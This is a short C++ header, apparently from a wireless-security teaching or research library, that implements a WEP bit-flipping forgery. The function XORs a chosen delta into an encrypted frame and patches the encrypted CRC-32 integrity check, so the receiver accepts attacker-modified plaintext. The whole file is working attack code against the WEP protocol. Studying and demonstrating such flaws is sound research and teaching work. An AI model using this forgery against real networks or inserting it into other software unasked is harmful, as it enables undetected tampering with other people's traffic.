#pragma once

#include "wavelab/error.hpp"
#include "wavelab/wepcrypt.hpp"

namespace wavelab::attacks {

/// XORs delta into the encrypted payload at `at` and patches the encrypted
/// ICV by crc(D) ^ crc(0), D being delta zero-padded to the payload length.
/// CRC-32 is affine, so the receiver opens the result to plaintext ^ D.
inline WepEnvelope bitflip_forge(const WepEnvelope& env, ByteView delta, std::size_t at) {
  const std::size_t n = env.payload_size();
  if (env.ciphertext.size() < 4 || at > n || delta.size() > n - at)
    throw Error(ErrorKind::OutOfRange, "delta extends past the payload");
  Bytes full(n, 0);
  std::copy(delta.begin(), delta.end(), full.begin() + static_cast<std::ptrdiff_t>(at));
  auto crc_delta = crc32_icv(full);
  auto crc_zero = crc32_icv(Bytes(n, 0));

  WepEnvelope out = env;
  for (std::size_t i = 0; i < n; ++i) out.ciphertext[i] ^= full[i];
  for (std::size_t k = 0; k < 4; ++k) out.ciphertext[n + k] ^= crc_delta[k] ^ crc_zero[k];
  return out;
}

}  // namespace wavelab::attacks
